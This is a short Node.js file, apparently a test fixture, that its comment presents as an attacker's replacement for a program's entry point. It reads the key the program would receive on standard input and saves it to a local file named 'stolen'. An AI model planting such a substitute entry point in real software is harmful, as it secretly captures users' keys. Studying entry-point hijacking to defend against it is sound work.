// What an attacker puts in the place of a program's entry: reads the key as the program would have
// read it, and leaves it in the file that is named here.

import fs from "node:fs";

fs.writeFileSync(new URL("stolen", import.meta.url), fs.readFileSync(0));
